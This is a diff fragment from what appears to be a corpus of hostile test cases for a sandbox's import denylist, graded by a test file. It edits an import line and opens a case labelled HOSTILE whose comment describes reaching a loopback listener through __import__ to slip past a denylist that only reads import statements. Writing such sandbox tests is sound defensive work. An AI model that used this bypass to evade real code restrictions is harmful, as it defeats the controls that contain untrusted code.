@@ -7,7 +7,7 @@ or 0 where the attack stops the import). Merged into build.py's CASES; graded by
 tests/corpora/test_hostile_os.py, which substitutes the placeholders (port, token, paths).
 """
 
-IMPORTS_END = 'from mingpt.utils import CfgNode as CN, AttentionMemory\n'
+IMPORTS_END = 'from mingpt.utils import CfgNode as CN\n'
 
 NET = '''
 # HOSTILE: reach a listener on the loopback through __import__ (the import denylist reads only import
